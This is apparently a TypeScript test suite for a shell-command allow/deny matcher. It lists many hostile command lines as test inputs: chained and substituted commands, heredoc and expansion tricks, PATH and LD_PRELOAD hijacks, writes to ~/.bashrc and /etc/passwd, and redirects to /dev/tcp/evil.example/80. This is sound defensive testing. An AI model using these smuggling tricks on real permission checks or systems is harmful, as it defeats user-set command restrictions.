import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { simpleCommands } from '../shell/simple-commands.ts';
import { meaningsOf } from './line-meanings.ts';
import { coversLine, touchesText } from './shell-cover.ts';
import { ARGS_PATTERN_HELP } from './text-glob.ts';

const covers = (pattern: string, line: string) => coversLine(pattern, simpleCommands(line));
const touches = (pattern: string, line: string) => touchesText(pattern, meaningsOf(line, simpleCommands(line)).texts);
const READERS = ['git status *', 'ls *', 'echo *'];

const HOSTILE = [
	'git status; rm -rf x',
	'git status;rm -rf x',
	'git status && rm x',
	'git status || rm x',
	'git status | sh',
	'git status |& sh',
	'git status & rm x',
	'git status &rm x',
	'rm x; git status',
	'echo $(rm x)',
	'echo "$(rm x)"',
	'echo `rm x`',
	'echo "`rm x`"',
	'echo `echo \\`rm x\\``',
	'ls <(rm x)',
	'ls -w 80<(rm x)',
	'ls 2>(rm x)',
	'ls {x}<(rm x)',
	'ls >(rm x)',
	'ls < <(rm x)',
	'git status\nrm x',
	'git status\n\n\trm x',
	'git status \\\n; rm x',
	'git sta\\\ntus',
	'gi\\\nt status',
	'git status # comment\nrm x',
	'git status #\\\nrm x',
	'echo <<E\n$(rm x)\nE',
	'echo <<-E\n\t`rm x`\n\tE',
	'echo <<E\nx\nE\nrm x',
	'echo <<E\n$(rm x)',
	"echo <<'E'\nx\n E",
	'echo <<< "$(rm x)"',
	`echo \${x:-$(rm x)}`,
	`echo \${x:+\`rm x\`}`,
	`echo "\${x:-"$(rm x)"}"`,
	`echo \${x/$(rm x)/y}`,
	`echo \${a[$(rm x)]}`,
	`echo \${x:$(rm x)}`,
	`echo \${x:='$(rm x)'} \${x@P}`,
	`echo \${x@P}`,
	`echo \${!x}`,
	`echo \${(e)x}`,
	`echo \${ rm x; }`,
	`echo \${| rm x; }`,
	'echo $((a[$(rm x)]))',
	`echo \${x:='a[$(rm x)]'} $((x))`,
	'echo $[a[$(rm x)]]',
	'echo $((x))',
	'(( a[$(rm x)] ))',
	"[[ 'a[$(rm x)]' -eq 0 ]]",
	'[[ -f x ]] && rm x',
	'{ git status; rm x; }',
	'{ rm x; }',
	'(rm x)',
	'(git status; rm x)',
	'{ git status } always { rm x }; }',
	'ls > x',
	'ls >x',
	'ls >> ~/.bashrc',
	'ls >| x',
	'ls &> x',
	'ls &>> x',
	'ls >& x',
	'ls <> x',
	'ls 2> x',
	'> x ls',
	'ls {fd}> x',
	'ls > $x',
	'ls > /dev/../etc/passwd',
	'ls > /dev/null/../../x',
	'ls > /dev/tcp/evil.example/80',
	'ls < /dev/tcp/evil.example/80',
	'ls < $x',
	'{ ls; } > x',
	'(ls) >> x',
	'if ls; then ls; fi > x',
	'git\u00a0status',
	'git status\u00a0; rm x',
	'git status\u2003x',
	'git status\r',
	'git status\rrm x',
	'git status\u0000; rm x',
	'git status \u202e',
	'ls \u200b',
	'ls \u001b[2K',
	'g"i"t status',
	"'git' status",
	'"git" status',
	'g\\it status',
	"$'\\x67it' status",
	"$'git' status",
	'git status $\'\\x24\'"$(rm x)"',
	"git$'\\x20'status",
	'$"git" status',
	'echo $"hi"',
	'{git,status}',
	'{rm,-rf,x}',
	'echo {a,$(rm x)}',
	'g?t status',
	'/bin/g*t status',
	'$GIT status',
	`\${x} status`,
	'$(echo git) status',
	'~/git status',
	'ls *(e:"rm x":)',
	'ls +(a|b)',
	'coproc ls',
	'coproc rm x',
	"alias ls='rm x'; ls",
	'! rm x',
	'time rm x',
	'time -p rm x',
	'function ls { rm x; }; ls',
	'ls() { rm x; }; ls',
	'ls() { ls | ls & }; ls',
	'case x in x) rm x;; esac',
	'case $(rm x) in x) ls;; esac',
	'case x in $(rm x)) ls;; esac',
	'if rm x; then ls; fi',
	'if ls; then ls; elif rm x; then ls; else ls; fi',
	'while rm x; do ls; done',
	'until ls; do rm x; done',
	'for i in $(rm x); do ls; done',
	'for i in a; do rm x; done',
	'for PATH in /tmp/evil; do ls; done',
	'for path in /tmp/evil; do ls; done',
	'for ((i=0;i<$(rm x);i++)); do ls; done',
	'select i in a; do rm x; done',
	'echo "unterminated',
	"echo 'unterminated",
	'echo $(unterminated',
	'echo `unterminated',
	`echo \${unterminated`,
	'ls )',
	'ls }',
	'{ ls',
	'if ls; then',
	'PATH=/tmp/evil ls',
	'LD_PRELOAD=x.so ls',
	'A=1 PATH=/tmp/evil ls',
	'PATH=/tmp/evil; ls',
	'x=$(rm x) ls',
	'a[$(rm x)]=1 ls',
	'a=($(rm x)); ls',
	'GIT_PAGER="rm x" git status',
	'eval ls',
	'eval "rm x"',
	'source ls',
	'. ls',
	'exec ls',
	'env ls',
	'command ls',
	'xargs ls',
	'ls | xargs rm',
	'sudo ls',
	'sh -c ls',
	"bash -c 'rm x'",
	'find . -exec ls {} \\;',
	'git -c core.pager=x status',
	'git statusx',
	'lsof',
	'echoes',
	'./ls',
	'/tmp/ls x',
	'=ls',
	'ls =(rm x)',
	'LS',
	'',
	'   ',
	'# only a comment',
];

describe('allow rule', () => {
	it.each(HOSTILE)('does not cover %j', (line) => {
		for (const pattern of READERS) expect(covers(pattern, line)).toBe(false);
	});

	it.each([
		'git status',
		'git status -s',
		'  git   status\t--short  ',
		'git status \\\n  --short',
		'git status --porcelain=v2 -- "a b;c"',
		"git status 'x && y | z'",
		'git status 2>&1',
		'git status >/dev/null',
		'git status > /dev/null 2>&1',
		'git status &>/dev/null',
		'git status 2>/dev/null # quietly',
		'git status; git status',
		'git status && git status -s || git status',
		'git status | git status',
		'(git status)',
		'{ git status; }',
		'! git status',
		'time git status',
		'git status &',
		'if git status; then git status; else git status -s; fi',
		'while git status; do git status; done',
		'for f in *.ts; do git status "$f"; done',
		'git status $(git status)',
		`git status "$HOME" \${x:-y} \${x%.ts} \${#x}`,
		'git status $((1 + 2))',
		'git status src/*.ts {a,b}',
		'git status <<E\nplain $x\nE',
		"git status <<'E'\n$(rm x)\nE",
		'git status <<< "$x"',
		'git status < list.txt',
		'git status\ngit status',
		'case $x in a) git status;; esac',
		"git status $'a\\tb'",
	])('for git status covers %j', (line) => {
		expect(covers('git status *', line)).toBe(true);
	});

	it('covers the assignments, written files and wrappers that its pattern names', () => {
		expect(covers('CI=* npm test *', 'CI=1 npm test')).toBe(true);
		expect(covers('CI=* npm test *', 'CI=1 PATH=/evil npm test')).toBe(false);
		expect(covers('* test', 'PATH=/evil npm test')).toBe(false);
		expect(covers('echo * > build/*', 'echo hi > build/x')).toBe(true);
		expect(covers('echo * > build/*', 'echo hi >> build/x')).toBe(true);
		expect(covers('echo * >> build/*', 'echo hi > build/x')).toBe(false);
		expect(covers('echo * > build/*', 'echo hi > build/../x')).toBe(false);
		expect(covers('echo * > build/*', 'echo hi > build/x > y')).toBe(false);
		expect(covers('echo * > build/*', 'echo hi')).toBe(true);
		expect(covers('echo ">" *', 'echo ">" x')).toBe(true);
		expect(covers('echo "> x" *', 'echo "> x" > x')).toBe(false);
		expect(covers('sudo apt-get *', 'sudo apt-get update')).toBe(true);
		expect(covers('*', 'sudo apt-get update')).toBe(false);
		expect(covers('* -c *', 'sh -c ls')).toBe(false);
		expect(covers('find *', 'find . -name x')).toBe(true);
		expect(covers('find *', 'find . -delete')).toBe(false);
		expect(covers('find * -exec grep *', 'find . -exec grep x {} +')).toBe(true);
		for (const line of [
			'fd -x rm',
			'fd -xrm',
			'fd -Hx rm',
			'fd a -HIXrm',
			'fd --exec rm',
			'fd --exec=rm',
			'fdfind --exec-batch=rm',
		])
			expect(covers('fd *', line) || covers('fdfind *', line), line).toBe(false);
		for (const line of ['fd -tx a', 'fd -e x', 'fd -exe', 'fd -H a --extension=x', 'fd x'])
			expect(covers('fd *', line), line).toBe(true);
		expect(covers('fd * -x grep *', 'fd a -x grep b')).toBe(true);
		for (const line of ['npm exec rm x', 'npm --silent exec rm x', 'npm -w a x rm', 'npm --prefix=a exec rm'])
			expect(covers('npm *', line), line).toBe(false);
		for (const line of ['npm run x', 'npm test', 'npm --loglevel=silent run exec', 'npm i exec'])
			expect(covers('npm *', line), line).toBe(true);
		expect(covers('npm exec vitest *', 'npm exec vitest run')).toBe(true);
		expect(covers('npx vitest *', 'npx vitest run')).toBe(true);
		expect(covers('* vitest *', 'npx vitest run')).toBe(false);
		expect(covers('uv run pytest *', 'uv run pytest -q')).toBe(true);
		expect(covers('git status *', 'git -C . status')).toBe(false);
		expect(covers('printf *', "printf -v 'a[$(rm x)]' y")).toBe(false);
		expect(covers('test *', "test -v 'a[$(rm x)]'")).toBe(false);
	});

	it.each([
		['git status *', 'git status'],
		['CI=* npm test *', 'CI=1 npm test'],
		['echo * > build/*', 'echo a > build/b'],
		['sudo apt-get *', 'sudo apt-get update'],
		['find * -exec grep *', 'find . -exec grep x {} +'],
		['sort -o *', 'sort -o a b'],
		['git diff --output=* *', 'git diff --output=x main'],
		['npm exec *', 'npm exec vitest'],
	])('matches the example in the help text: %j', (example, line) => {
		expect(ARGS_PATTERN_HELP).toContain(`"${example}"`);
		expect(covers(example, line)).toBe(true);
	});

	it('never covers a line that also runs something else, with any operator', () => {
		const name = fc.stringMatching(/^[a-z]{2,8}$/).filter((word) => !RESERVED.has(word));
		const arg = fc.constantFrom('x', '-v', '"a b"', "'c;d'", '$HOME', '2>&1', '\\;', '"$(NAME)"', '--', 'a#x');
		const join = fc.constantFrom(...JOINS);
		fc.assert(
			fc.property(name, name, fc.array(arg, { maxLength: 3 }), join, (own, other, args, joined) => {
				fc.pre(own !== other);
				const first = [own, ...args.map((text) => text.replace('NAME', own))].join(' ');
				const line = joined.replaceAll('A', () => first).replaceAll('B', () => `${other} y`);
				expect(covers(`${own} *`, line)).toBe(false);
			}),
			{ numRuns: 500 },
		);
	});
});

const RESERVED = new Set('if fi do in for case esac then else elif done time while until select function coproc'.split(' '));
const JOINS = [
	...['A; B', 'B; A', 'A && B', 'A || B', 'A | B', 'A |& B', 'A & B', 'A\nB', 'A $(B)', 'A `B`', 'A <(B)', 'A "$(B)"', '(A; B)'],
	...[
		'{ A; B; }',
		'if A; then B; fi',
		'while B; do A; done',
		'for i in a; do A; B; done',
		'A <<E\n$(B)\nE\n',
		'A <<< $(B)',
		'! B',
		'A; time B',
	],
	...[
		'f() { B; }; A',
		'case x in x) A;; y) B;; esac',
		'coproc B; A',
		'x=$(B) A',
		'A > >(B)',
		'A $(A $(B))',
		'A; A; A; B',
		'eval B',
		'A; sudo B',
	],
];

describe('deny rule', () => {
	it.each([
		'rm x; constructor',
		'__proto__ x && rm x',
		'hasOwnProperty | rm x',
		'rm -rf x',
		'ls; rm x',
		'echo $(rm x)',
		'echo "`rm x`"',
		'/bin/rm x',
		'r"m" x',
		"'rm' x",
		'\\rm x',
		'r\\\nm x',
		"$'rm' x",
		"$'\\x72m' x",
		'FOO=1 rm x',
		'sudo rm x',
		'sudo -u root /bin/rm x',
		'env A=1 rm x',
		'ls | xargs -n 1 rm',
		'find . -exec rm {} \\;',
		"sh -c 'rm x'",
		'bash -lc "ls; rm x"',
		'eval "rm x"',
		`sh -c "sh -c 'rm x'"`,
		'command rm x',
		'{rm,-rf,x}',
		'f() { rm x; }',
		'if true; then rm x; fi',
		'ls <<E\n$(rm x)\nE',
		'rm x; echo "',
		'rm\u0000 x',
		'rm x\r',
		'timeout 5 rm x',
		'"sudo" rm x',
		'{sudo,rm,x}',
		'npm exec rm x',
		'npm --silent exec -- rm x',
		'npx rm x',
		'pnpm dlx rm x',
		'uv run rm x',
		'sudo npm exec rm x',
		'fd -x rm',
		'fd -xrm x',
		'fd -Hx/bin/rm x',
		'fd --exec=rm x',
		"env -S'rm x'",
	])('for rm matches %j', (line) => {
		expect(touches('rm *', line)).toBe(true);
	});

	it.each(['ls rm', 'echo "rm x"', 'rmdir x', 'git rm x', 'npm run rm'])('for rm does not match %j', (line) => {
		expect(touches('rm *', line)).toBe(false);
	});

	it.each([
		'git -C . push',
		'git -c a=b push origin',
		'git --no-pager push',
		'git --git-dir .git --work-tree=. push',
		'/usr/bin/git -C push push',
		'"git" -P push',
		'sudo git -C . push',
		"sh -c 'git -C . push'",
		'timeout 5 /usr/bin/git --no-pager -c a=b push x',
	])('for git push matches %j', (line) => {
		expect(touches('git push *', line)).toBe(true);
	});

	it.each(['git -C push status', 'git --no-pager log push', 'git stash push', 'git -c push=1 log'])(
		'for git push does not match %j',
		(line) => {
			expect(touches('git push *', line)).toBe(false);
		},
	);

	it('matches files that are written to', () => {
		expect(touches('* > /etc/*', 'echo x >/etc/passwd')).toBe(true);
		expect(touches('*/etc/passwd*', 'cat /etc/passwd')).toBe(true);
	});
});
